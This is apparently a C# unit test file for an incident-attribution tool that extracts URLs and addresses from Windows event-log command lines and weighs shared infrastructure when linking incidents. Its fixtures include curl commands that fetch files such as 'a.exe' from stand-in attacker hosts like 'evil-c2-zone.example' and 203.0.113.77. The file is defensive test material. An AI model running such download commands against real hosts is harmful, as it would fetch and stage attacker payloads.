using Culprit.Attribution;
using Culprit.Evidence;
using Culprit.Knowledge;

namespace Culprit.Tests.Attribution;

/// <summary>URLs in commands and scripts: who tells of them, and that nobody need have spoken to what they name.</summary>
public sealed class LinkingWrittenTests
{
    private const string Sysmon = "Microsoft-Windows-Sysmon/Operational", PowerShell = "Microsoft-Windows-PowerShell/Operational", Address = "203.0.113.77";
    private const string Script = "# see http://docs.vendor-kz.example/a http://cdn.other-kz.example/b http://203.0.113.77/x";

    [Theory]
    [InlineData(Sysmon, 1, "CommandLine", true)]
    [InlineData("Security", 4688, "CommandLine", true)]
    [InlineData(PowerShell, 4104, "ScriptBlockText", true)]
    [InlineData("PowerShellCore/Operational", 4104, "ScriptBlockText", true)]
    [InlineData("Application", 4104, "ScriptBlockText", false)]
    [InlineData("Application", 4688, "CommandLine", false)]
    [InlineData("Windows PowerShell", 4104, "ScriptBlockText", false)]
    [InlineData("", 4104, "ScriptBlockText", false)]
    [InlineData(PowerShell, 4103, "ScriptBlockText", false)]
    [InlineData(PowerShell, 4104, "CommandLine", false)]
    [InlineData(Sysmon, 11, "CommandLine", false)]
    [InlineData("Security", 4624, "CommandLine", false)]
    public void Urls_are_read_from_the_events_of_those_who_tell_what_was_run(string channel, int id, string field, bool isRead)
    {
        LinkItem[] items = [.. Pair(one => one.Add(RecordKind.WindowsEvent, channel, id, "", (field, Script))).Items.Where(static i => i.Line == LinkLine.Infrastructure)];

        Assert.Equal(isRead ? ["203.0.113.77", "cdn.other-kz.example", "docs.vendor-kz.example"] : [], items.Select(static i => i.Value).Order(StringComparer.Ordinal));
    }

    // Two sites that ran one public script.
    [Fact]
    public void What_only_stands_in_what_was_run_is_easily_forged_and_links_nothing()
    {
        CampaignLinks links = Links(one => one.Add(RecordKind.WindowsEvent, PowerShell, 4104, "", ("ScriptBlockText", Script)), rate: 0.9);

        IncidentLink link = links.Pairs[0];
        Assert.True(link.Probability > 0.9, "the figure says what it says");
        Assert.Equal((Likelihood.RealisticPossibility, AnalyticConfidence.Low), (link.Likelihood, link.Confidence));
        Assert.All(link.Items, static i => Assert.Equal((true, Spoofability.Easy), (i.OnlyWritten, i.Spoofability)));
        Assert.All(link.Items, static i => Assert.StartsWith("On one side at least it only stands in what somebody ran: nothing shows that it was spoken to", i.Note, StringComparison.Ordinal));
        Assert.Contains("what is only written", Assert.Single(link.Caps), StringComparison.Ordinal);
        Assert.Empty(links.Campaigns);
    }

    [Fact]
    public void What_is_only_written_bears_one_address_out_no_more_than_nothing()
    {
        IncidentLink link = Pair(one => one.Connects("198.51.100.20").Add(RecordKind.WindowsEvent, PowerShell, 4104, "", ("ScriptBlockText", Script)));

        Assert.Equal(Likelihood.RealisticPossibility, link.Likelihood);
        Assert.StartsWith("One domain, with all names below it", Assert.Single(link.Caps), StringComparison.Ordinal);
    }

    [Fact]
    public void What_is_only_written_is_no_line_beside_another()
    {
        IncidentLink link = Pair(one => one.Runs("x.exe", "implant").Add(RecordKind.WindowsEvent, PowerShell, 4104, "", ("ScriptBlockText", Script)));

        Assert.Equal((Likelihood.Likely, AnalyticConfidence.Low), (link.Likelihood, link.Confidence));
        Assert.Equal("Confidence in this is low: it rests on one line of evidence.", link.ConfidenceSentence);
    }

    [Theory]
    [InlineData(true, true, 4.5)]
    [InlineData(true, false, 1.5)]
    [InlineData(false, true, 1.5)]
    [InlineData(false, false, 1.5)]
    public void What_was_written_and_reached_counts_as_reached_on_that_side(bool first, bool second, double weight)
    {
        MadeIncident One(string name, bool isReached)
        {
            MadeIncident one = new MadeIncident(name).Add(RecordKind.WindowsEvent, "Security", 4688, "", ("CommandLine", $"curl http://{Address}/x"));
            return isReached ? one.Connects(Address) : one;
        }

        LinkItem item = Assert.Single(new CampaignLinker(KnowledgeBase.Embedded).Link([One("a", first).Make(), One("b", second).Make()]).Pairs[0].Items);

        Assert.Equal((Address, weight, weight < 2), (item.Value, item.LogLikelihoodRatio, item.OnlyWritten));
    }

    [Theory]
    [InlineData("github.com", 0.2, false)]
    [InlineData("kqzone.duckdns.org", 1.5, true)]
    [InlineData("kqzone.example.net", 1.5, true)]
    public void A_domain_that_is_written_says_no_more_than_one_that_is_asked_for(string domain, double weight, bool isWritten)
    {
        LinkItem item = Assert.Single(Pair(one => one.Add(RecordKind.WindowsEvent, Sysmon, 1, "", ("CommandLine", $"curl http://{domain}/x"))).Items);

        Assert.Equal((weight, isWritten), (item.LogLikelihoodRatio, item.OnlyWritten));
    }

    [Fact]
    public void What_one_institution_runs_everywhere_says_next_to_nothing()
    {
        MadeIncident One(string name, double days) => new MadeIncident(name, "DESKTOP-4G7H2K1").Later(days).Add(RecordKind.WindowsEvent, Sysmon, 1, "", ("CommandLine", $"curl http://{Address}/x"));

        Assert.Equal(0.5, Assert.Single(new CampaignLinker(KnowledgeBase.Embedded).Link([One("a", 0).Make(), One("b", 1).Make()]).Pairs[0].Items).LogLikelihoodRatio, 0.01);
    }

    // A user's name may look like any host.
    [Theory]
    [InlineData("https://cdn.update@evil-c2-zone.example/a.exe", "evil-c2-zone.example")]
    [InlineData("https://cdn.update:pw@x@evil-c2-zone.example:8443/a@b.exe", "evil-c2-zone.example")]
    [InlineData("ftp://u:p@203.0.113.77/a.exe", "203.0.113.77")]
    [InlineData("http://[2001:db8:77::1]:8080/a.exe", "2001:db8:77::1")]
    [InlineData("http://u@[2001:db8:77::1]/a.exe", "2001:db8:77::1")]
    [InlineData("http://evil-c2-zone.example?a=x@other-zone.example", "evil-c2-zone.example")]
    public void The_host_of_a_url_is_what_stands_behind_its_user(string url, string host) =>
        Assert.Equal([host], Pair(one => one.Add(RecordKind.WindowsEvent, Sysmon, 1, "", ("CommandLine", $"curl {url}"))).Items.Where(static i => i.Line == LinkLine.Infrastructure).Select(static i => i.Value));

    private static IncidentLink Pair(Func<MadeIncident, MadeIncident> shows) => Links(shows, CampaignLinker.DefaultBaseRate).Pairs[0];

    private static CampaignLinks Links(Func<MadeIncident, MadeIncident> shows, double rate) =>
        new CampaignLinker(KnowledgeBase.Embedded).Link([shows(new MadeIncident("a")).Make(), shows(new MadeIncident("b")).Make()], rate);
}
